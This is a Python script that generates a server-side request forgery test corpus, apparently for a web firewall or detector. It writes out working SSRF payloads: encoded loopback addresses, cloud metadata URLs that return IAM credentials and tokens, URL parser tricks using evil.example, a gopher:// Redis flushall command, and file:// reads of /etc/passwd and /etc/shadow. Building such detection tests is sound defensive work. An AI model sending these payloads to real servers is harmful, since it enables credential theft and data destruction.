"""Server-side request forgery (``1080-ssrf.yaml``).

URLs given to parameters a server fetches (webhooks, link previews, image
imports, PDF renderers, proxies) that point inward: loopback in every
spelling (``localhost``, ``127.0.0.1``, ``[::1]``, ``0.0.0.0``, decimal,
hex and octal forms, short forms, IPv4-mapped IPv6), private networks, the
cloud metadata services (AWS, GCP, Azure, Alibaba, Oracle, DigitalOcean,
ECS), names that resolve to them (``127.0.0.1.nip.io``), userinfo and
fragment tricks that confuse URL parsers, and schemes that talk to other
services (``gopher://``, ``dict://``, ``file://``, ``ldap://``, ``tftp://``).
URLs to ordinary external sites are not attacks (see the benign corpus).
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from common import (
    Placement,
    in_cookie,
    in_form,
    in_json,
    in_multipart,
    in_query,
    in_xml,
    write,
)
from common import spread as common_spread

PLACES: dict[str, tuple[str, Placement]] = {
    "query-url": ("query", in_query("url", "/api/preview")),
    "query-src": ("query", in_query("src", "/image/proxy")),
    "form-webhook": ("form", in_form("webhook_url", "/settings/integrations")),
    "json-avatar": ("json", in_json("avatarUrl", "/api/v1/profile")),
    "json-feed": ("json", in_json("feed", "/api/v1/import")),
    "xml": ("xml", in_xml("callback", "/api/v1/jobs")),
    "multipart": ("multipart", in_multipart("source_url", "/import")),
    "cookie": ("cookie", in_cookie("preview_url", "/feeds")),
}

ROTATION = ["query-url", "json-avatar", "form-webhook", "query-src", "xml", "json-feed",
            "multipart", "query-url", "cookie"]


def spread(payloads: Sequence[str], rotation: Sequence[str], per: int,
           encodings: Sequence[str] = ("plain",), start: int = 0) -> list[dict[str, Any]]:
    return common_spread(payloads, rotation, per, places=PLACES, family="ssrf",
                         encodings=encodings, start=start)


LOOPBACK = [
    "http://127.0.0.1/",
    "http://127.0.0.1:6379/",
    "http://localhost/admin",
    "http://localhost:8080/actuator/env",
    "http://0.0.0.0:22/",
    "http://[::1]/",
    "http://[::]:80/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://[::ffff:7f00:1]/server-status",
    "https://127.0.0.1:8443/manager/html",
    "http://localhost:2375/containers/json",
    "http://127.0.0.1:9200/_cat/indices",
    "http://0.0.0.0:5984/_all_dbs",
    "HTTP://LOCALHOST/",
    "http://LocalHost:8080/",
    "http://127.0.0.2:11211/",
]

ENCODED_IPS = [
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://0x7f.0x0.0x0.0x1/",
    "http://017700000001/",
    "http://127.1/",
    "http://127.0.1/",
    "http://0/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
]

METADATA = [
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/api/token",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    ("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
     "&resource=https://management.azure.com/"),
    "http://100.100.100.200/latest/meta-data/",
    "http://169.254.169.254/opc/v1/instance/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.170.2/v2/credentials",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://instance-data/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "169.254.169.254/latest/meta-data/hostname",
]

REBINDING_AND_PARSERS = [
    "http://127.0.0.1.nip.io/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://app.127.0.0.1.sslip.io:8080/",
    "http://localtest.me/",
    "http://evil.example@127.0.0.1/",
    "http://127.0.0.1#@evil.example/",
    "http://evil.example#@169.254.169.254/latest/meta-data/",
    "http://user:pass@localhost:8080/admin",
    "http://127.0.0.1:80\\@evil.example/",
    "https://customer.example.com@10.0.0.5/",
]

PRIVATE = [
    "http://10.0.0.1/admin",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.16.0.10:8500/v1/agent/self",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://10.96.0.1:443/api",
]

SCHEMES = [
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "gopher://localhost:25/_HELO%20localhost",
    "gopher://evil.example:70/_payload",
    "dict://127.0.0.1:6379/info",
    "dict://localhost:11211/stats",
    "file:///etc/passwd",
    "file:///c:/windows/win.ini",
    "file://localhost/etc/shadow",
    "ldap://127.0.0.1:389/",
    "tftp://203.0.113.7:69/x",
    "netdoc:///etc/passwd",
    "jar:http://127.0.0.1:8080/x.jar!/",
    "sftp://evil.example:11111/",
]


def main() -> None:
    tests: list[dict[str, Any]] = []
    tests += spread(LOOPBACK, ROTATION, per=2)
    tests += spread(ENCODED_IPS, ROTATION, per=2, start=2)
    tests += spread(METADATA, ROTATION, per=2, start=4)
    tests += spread(REBINDING_AND_PARSERS, ROTATION, per=2, start=1)
    tests += spread(PRIVATE, ROTATION, per=1, start=3)
    tests += spread(SCHEMES, ROTATION, per=2, start=5)
    again = ["http://127.0.0.1:6379/", "http://169.254.169.254/latest/meta-data/",
             "gopher://127.0.0.1:6379/_info", "http://[::1]/", "file:///etc/passwd"]
    tests += spread(again, ["query-url", "form-webhook"], per=1, encodings=("double-url",))
    tests += spread(again[:3], ["query-src"], per=1, encodings=("unicode-u",))
    write("attacks/1080-ssrf.yaml", 1080000,
          "Server-side request forgery: loopback and private hosts, cloud metadata, odd schemes",
          tests)


if __name__ == "__main__":
    main()
